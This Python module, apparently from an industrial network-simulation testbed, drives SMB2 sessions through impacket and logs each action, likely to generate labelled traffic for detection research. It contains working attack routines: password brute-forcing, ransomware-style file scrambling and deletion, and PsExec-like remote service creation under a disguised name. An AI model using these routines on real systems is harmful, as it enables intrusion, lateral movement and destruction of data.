"""SMB 2 clients (impacket): files of the share, passwords guessed, a service made from afar.

A machine logs on as `office` (the MES as itself) unless it has guessed another account's password.
"""

from __future__ import annotations

import contextlib
from collections.abc import Iterator

from impacket.dcerpc.v5 import scmr, srvs, transport
from impacket.dcerpc.v5.rpcrt import DCERPCException
from impacket.nmb import NetBIOSError, NetBIOSTimeout
from impacket.smb3structs import (
    DELETE, FILE_DELETE_ON_CLOSE, FILE_NON_DIRECTORY_FILE, FILE_OPEN, FILE_OVERWRITE_IF, FILE_READ_DATA,
    FILE_SHARE_DELETE, FILE_SHARE_READ, FILE_WRITE_DATA, SMB2_DIALECT_002)
from impacket.smbconnection import SessionError, SMBConnection

from ..devices.smb import ACCOUNTS, DOMAIN, FOLDERS, SHARE, file_name
from ..plan import ip_of

TIMEOUT_S = 0.5
PIECE = 32_768


class Refused(RuntimeError):
    """The server answered with an error."""


def _connect(actor: str, target: str, user: str, password: str) -> SMBConnection:
    address = ip_of(target)
    try:
        client = SMBConnection(address, address, myName=f"NF-{actor.upper()}"[:15], sess_port=445, timeout=TIMEOUT_S,
                               preferredDialect=SMB2_DIALECT_002)
        client.login(user, password, DOMAIN)
    except SessionError as error:
        raise Refused(f"{target}: {error}") from error
    except (NetBIOSError, NetBIOSTimeout, OSError) as error:
        raise TimeoutError(f"{target} does not answer on port 445: {error}") from error
    return client


def account(world, actor: str) -> tuple[str, str]:
    """Who a machine logs on as."""
    user = "mes" if actor == "mes" else "office"
    return world.state.get(("smb account", actor), (user, ACCOUNTS[user]))


@contextlib.contextmanager
def _client(world, actor: str, target: str) -> Iterator[SMBConnection]:
    """The kept connection, made when there is none, dropped when it fails."""
    key = ("smb", actor, target)
    client = world.links.get(key)
    if client is None:
        client = world.links[key] = _connect(actor, target, *account(world, actor))
    try:
        yield client
    except SessionError as error:
        raise Refused(f"{target}: {error}") from error
    except DCERPCException as error:
        raise Refused(f"{target}: {error}") from error
    except (NetBIOSError, NetBIOSTimeout, OSError) as error:
        world.links.pop(key, None)
        with contextlib.suppress(OSError):
            client.getSMBServer().get_socket().close()
        raise TimeoutError(f"{target} does not answer: {error}") from error


def leave(world, actor: str, target: str) -> None:
    """Log off and close the kept connection."""
    if client := world.links.pop(("smb", actor, target), None):
        with contextlib.suppress(SessionError, NetBIOSError, NetBIOSTimeout, OSError):
            client.close()


def list_share(world, actor: str, target: str) -> list[str]:
    """Shares (by the pipe srvsvc), then what lies in every folder of the one."""
    with _client(world, actor, target) as client:
        pipe = transport.SMBTransport(ip_of(target), filename="\\srvsvc", smb_connection=client).get_dce_rpc()
        pipe.connect()
        pipe.bind(srvs.MSRPC_UUID_SRVS)
        srvs.hNetrShareEnum(pipe, 1)
        pipe.disconnect()
        found = []
        for entry in client.listPath(SHARE, "*"):
            if entry.is_directory() and entry.get_longname() not in (".", ".."):
                folder = entry.get_longname()
                inside = client.listPath(SHARE, f"{folder}\\*")
                found += [f"{folder}/{one.get_longname()}" for one in inside if not one.is_directory()]
        return sorted(found)


def read_file(world, actor: str, target: str, name: str) -> bytes:
    """One file, `folder/name`."""
    pieces: list[bytes] = []
    with _client(world, actor, target) as client:
        tree = client.connectTree(SHARE)
        file = client.createFile(tree, _path(name), FILE_READ_DATA, FILE_SHARE_READ, FILE_NON_DIRECTORY_FILE, FILE_OPEN)
        while not pieces or len(pieces[-1]) == PIECE:
            pieces.append(client.readFile(tree, file, sum(map(len, pieces)), PIECE))
        client.closeFile(tree, file)
    return b"".join(pieces)


def write_file(world, actor: str, target: str, name: str, size: int = 12_000, data: bytes | None = None,
               **told) -> None:
    """Write a file whole, made up unless `data` is given. Told as acts: the file opened, then written."""
    data = data if data is not None else world.theatre.random("smb", actor, name, size).randbytes(size)
    with _client(world, actor, target) as client:
        _write(world, client, target, client.connectTree(SHARE), _path(name), data, told)


def _write(world, client: SMBConnection, target: str, tree: int, path: str, data: bytes, told: dict) -> None:
    world.act("smb", "overwrite_file", "write", target, _told(target, path), port=445, **told)
    file = client.createFile(tree, path, FILE_WRITE_DATA, FILE_SHARE_READ, FILE_NON_DIRECTORY_FILE, FILE_OVERWRITE_IF)
    kind = "program" if path.endswith((".exe", ".dll", ".bat", ".ps1")) else "write"
    world.act("smb", "write_file", kind, target, _told(target, path), port=445, **told)
    for at in range(0, len(data), PIECE):
        client.writeFile(tree, file, data[at:at + PIECE], at)
    client.closeFile(tree, file)


def delete_file(world, actor: str, target: str, name: str, **told) -> None:
    """Delete a file."""
    with _client(world, actor, target) as client:
        tree, path = client.connectTree(SHARE), _path(name)
        world.act("smb", "delete_file", "write", target, _told(target, path), port=445, **told)
        options = FILE_NON_DIRECTORY_FILE | FILE_DELETE_ON_CLOSE
        file = client.createFile(tree, path, DELETE, FILE_SHARE_DELETE, options, FILE_OPEN)
        client.closeFile(tree, file)


def rename_many(world, actor: str, target: str, count: int = 40, ending: str = ".locked") -> int:
    """As ransomware does: read a file, write it back scrambled under another name, delete it, then the next."""
    names = [f"{folder}/{file_name(folder, number)}" for folder in FOLDERS for number in range(12)]
    changed = 0
    for name in names:
        if changed >= count:
            break
        try:
            data = read_file(world, actor, target, name)
        except Refused:
            continue
        mask = world.theatre.random("locked", name).randbytes(len(data))
        scrambled = bytes(a ^ b for a, b in zip(data, mask, strict=True))
        write_file(world, actor, target, name + ending, data=scrambled)
        delete_file(world, actor, target, name)
        changed += 1
    return changed


def guess(world, actor: str, target: str, user: str, passwords: list[str]) -> str:
    """One password after the other, a connection each, until one is right; the machine then goes on as that user."""
    for password in passwords:
        try:
            client = _connect(actor, target, user, password)
        except Refused:
            continue
        client.close()
        leave(world, actor, target)
        world.state[("smb account", actor)] = (user, password)
        return password
    raise Refused(f"no password of {user} guessed")


def remote_service(world, actor: str, target: str, service: str = "WUPDSVC", program: str = "tools/psx.exe",
                   **told) -> None:
    """Make a service, start it, delete it: how programs are run from afar (MS-SCMR through the pipe svcctl)."""
    with _client(world, actor, target) as client:
        pipe = transport.SMBTransport(ip_of(target), filename="\\svcctl", smb_connection=client).get_dce_rpc()
        pipe.connect()
        pipe.bind(scmr.MSRPC_UUID_SCMR)
        manager = scmr.hROpenSCManagerW(pipe)["lpScHandle"]
        path = f"C:\\{_path(program)}"
        world.act("dcerpc", "svcctl_create_service", "configuration", target, service, f"{service}, {path}", port=445,
                  **told)
        made = scmr.hRCreateServiceW(pipe, manager, service, service, lpBinaryPathName=path)["lpServiceHandle"]
        world.act("dcerpc", "svcctl_start_service", "control", target, service, port=445, **told)
        scmr.hRStartServiceW(pipe, made)
        world.act("dcerpc", "svcctl_delete_service", "configuration", target, service, port=445, **told)
        scmr.hRDeleteService(pipe, made)
        pipe.disconnect()


def _path(name: str) -> str:
    return name.replace("/", "\\")


def _told(target: str, path: str) -> str:
    return f"\\\\{ip_of(target)}\\{SHARE}\\{path}"
